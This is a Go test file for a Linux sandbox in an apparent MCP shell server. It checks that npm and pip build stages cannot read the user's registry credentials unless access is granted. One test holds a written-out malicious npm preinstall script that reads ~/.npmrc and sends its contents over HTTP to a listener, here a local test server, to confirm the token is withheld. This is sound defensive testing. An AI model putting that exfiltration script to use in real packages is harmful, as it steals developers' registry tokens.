//go:build linux

package sandbox

import (
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/seed-b63acb1b/mcp-shell-server/childenv"
)

// TestCredentialConfigWithheld: an npm stage cannot read the user's
// ~/.npmrc but reads a copy with the registry kept and the token gone;
// MCP_SHELL_SANDBOX_CREDENTIALS=npm gives it the real file. A make
// recipe reads neither.
func TestCredentialConfigWithheld(t *testing.T) {
	requireLandlock(t)
	requirePrograms(t, "npm", "node", "make")
	work, home := t.TempDir(), t.TempDir()
	rc := filepath.Join(home, ".npmrc")
	writeFile(t, rc, "registry=http://127.0.0.1:9/npm/\n//127.0.0.1:9/npm/:_authToken=NPMSECRET_abc\nsave-exact=true\n", 0o600)
	// npm run's script is the npm stage's own code, as a lifecycle
	// script is.
	writeFile(t, filepath.Join(work, "package.json"), `{"name":"w","version":"1.0.0","scripts":{"readrc":"cat `+rc+`"}}`+"\n", 0o644)
	writeFile(t, filepath.Join(work, "Makefile"), "npmrc:\n\t@cat "+rc+"\ncopy:\n\t@cat $$TMPDIR/.config-copies/npmrc\n", 0o644)
	env := []string{testPath, "HOME=" + home}
	for _, tc := range []struct {
		name    string
		granted []string
	}{{"default", nil}, {"MCP_SHELL_SANDBOX_CREDENTIALS=npm", []string{"npm"}}, {"MCP_SHELL_SANDBOX_CREDENTIALS=1", []string{CredentialsAll}}} {
		t.Run(tc.name, func(t *testing.T) {
			l := newLauncher(t, Config{Mode: ModeAuto, WriteDirs: []string{work}, Limits: DefaultLimits(), Credentials: tc.granted})
			c := call{l: l, dir: work, env: env, temp: t.TempDir()}
			reg := c.run(t, "npm", "config", "get", "registry")
			save := c.run(t, "npm", "config", "get", "save-exact")
			if reg.stdout != "http://127.0.0.1:9/npm/\n" || save.stdout != "true\n" {
				t.Errorf("npm lost the user's settings: registry %v, save-exact %v", reg, save)
			}
			read := c.run(t, "npm", "run", "--silent", "readrc")
			st := stageIn(t, l.Rules, work, c.temp, env, nil, "npm", "install")
			if tc.granted == nil {
				if strings.Contains(read.stdout, "NPMSECRET") {
					t.Errorf("npm's script read the real ~/.npmrc: %v", read)
				}
				copyPath, _ := childenv.Lookup(st.Env, "npm_config_userconfig")
				b, err := os.ReadFile(copyPath)
				if err != nil || strings.Contains(string(b), "NPMSECRET") || !strings.Contains(string(b), "registry=http://127.0.0.1:9/npm/") {
					t.Errorf("the copy %q: %q, %v", copyPath, b, err)
				}
				if fi, err := os.Stat(copyPath); err != nil || fi.Mode().Perm() != 0o600 {
					t.Errorf("the copy's mode: %v %v", fi, err)
				}
			} else {
				if !strings.Contains(read.stdout, "NPMSECRET") {
					t.Errorf("granted, the npm stage cannot read ~/.npmrc: %v", read)
				}
				if v, ok := childenv.Lookup(st.Env, "npm_config_userconfig"); ok {
					t.Errorf("granted, npm is still pointed at a copy: %s", v)
				}
			}
			for _, target := range []string{"npmrc", "copy"} {
				if o := c.run(t, "make", "-s", target); strings.Contains(o.stdout, "NPMSECRET") {
					t.Errorf("a make recipe read %s: %v", target, o)
				}
			}
		})
	}
}

// TestAttackNpmScriptSendsToken is the attack with the real npm: the
// project's preinstall script reads ~/.npmrc (and whatever userconfig
// npm was given) and sends it to a loopback listener, under npm install,
// whose stage has the network. The listener must see the script's
// request (the route is open: the oracle sees the attempt) and never the
// token; granted MCP_SHELL_SANDBOX_CREDENTIALS=npm, the token arrives,
// which proves the listener would see it.
func TestAttackNpmScriptSendsToken(t *testing.T) {
	requireLandlock(t)
	requirePrograms(t, "npm", "node")
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var seen []string
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.URL.String())
		mu.Unlock()
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	home := t.TempDir()
	rc := filepath.Join(home, ".npmrc")
	writeFile(t, rc, "//registry.npmjs.org/:_authToken=NPMSECRET_TOKEN_abc123\n", 0o600)
	script := "node -e \"const fs=require('fs');let s='';" +
		"for (const f of [process.env.HOME+'/.npmrc', process.env.npm_config_userconfig||'']) { try { s += fs.readFileSync(f,'utf8') } catch (e) { s += 'denied;' } }" +
		"require('http').get('http://" + ln.Addr().String() + "/x-'+encodeURIComponent(s)).on('error',()=>{})\""
	for _, tc := range []struct {
		name      string
		granted   []string
		wantToken bool
	}{{"default", nil, false}, {"granted", []string{"npm"}, true}} {
		t.Run(tc.name, func(t *testing.T) {
			work := t.TempDir()
			writeFile(t, filepath.Join(work, "package.json"), `{"name":"victim","version":"1.0.0","scripts":{"preinstall":`+jsString(script)+`}}`+"\n", 0o644)
			writeFile(t, filepath.Join(work, ".npmrc"), "audit=false\nfund=false\nupdate-notifier=false\n", 0o644)
			mu.Lock()
			seen = nil
			mu.Unlock()
			l := newLauncher(t, Config{Mode: ModeAuto, WriteDirs: []string{work}, Limits: DefaultLimits(), Credentials: tc.granted})
			c := call{l: l, dir: work, env: []string{testPath, "HOME=" + home}, temp: t.TempDir()}
			o := c.run(t, "npm", "install")
			mu.Lock()
			got := strings.Join(seen, "\n")
			mu.Unlock()
			if got == "" {
				t.Fatalf("the script's request never arrived (the attack route is closed some other way): %v", o)
			}
			if strings.Contains(got, "NPMSECRET") != tc.wantToken {
				t.Errorf("token arrived: %v, want %v; requests:\n%s\nnpm: %v", !tc.wantToken, tc.wantToken, got, o)
			}
		})
	}
}

// jsString quotes s for JSON and JavaScript alike.
func jsString(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`)
	return `"` + r.Replace(s) + `"`
}

// TestPipConfigWithheld: a pip stage reads its settings from a copy of
// both user files, the index kept and its password gone, and cannot read
// ~/.config/pip/pip.conf itself (setup.py and build backends run in the
// stage).
func TestPipConfigWithheld(t *testing.T) {
	requireLandlock(t)
	requirePrograms(t, "pip")
	work, home := t.TempDir(), t.TempDir()
	for _, d := range []string{".pip", ".config/pip"} {
		if err := os.MkdirAll(filepath.Join(home, d), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	writeFile(t, filepath.Join(home, ".pip", "pip.conf"), "[global]\ntimeout = 7\nindex-url = https://old.example/simple\n", 0o600)
	conf := filepath.Join(home, ".config", "pip", "pip.conf")
	writeFile(t, conf, "[global]\nindex-url = https://user:PIPSECRET@pypi.example.com/simple\n[install]\nclient-cert = /k/c.pem\n", 0o600)
	l := newLauncher(t, Config{Mode: ModeAuto, WriteDirs: []string{work}, Limits: DefaultLimits()})
	c := call{l: l, dir: work, env: []string{testPath, "HOME=" + home}, temp: t.TempDir()}
	o := c.run(t, "pip", "config", "list")
	for _, want := range []string{"global.index-url='https://pypi.example.com/simple'\n", "global.timeout='7'\n"} {
		if o.exit != 0 || !strings.Contains(o.stdout, want) {
			t.Errorf("pip config list: %v, want %q", o, want)
		}
	}
	if strings.Contains(o.stdout, "PIPSECRET") || strings.Contains(o.stdout, "client-cert") {
		t.Errorf("pip sees a credential: %v", o)
	}
	st := stageIn(t, l.Rules, work, c.temp, c.env, nil, "pip", "install", "x")
	if slices.Contains(st.Confinement.Read, filepath.Join(home, ".config/pip")) {
		t.Errorf("the pip stage may read %s: %q", conf, st.Confinement.Read)
	}
}
